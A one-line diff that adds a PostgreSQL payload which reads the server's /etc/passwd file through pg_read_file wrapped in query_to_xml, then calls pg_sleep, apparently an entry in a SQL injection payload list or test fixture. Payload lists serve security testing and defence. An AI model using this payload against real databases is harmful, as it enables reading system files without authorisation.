@@ -1,0 +1,1 @@
+select query_to_xml('select pg_read_file(''/etc/passwd'')', true, true, ''); select pg_sleep(1) for update
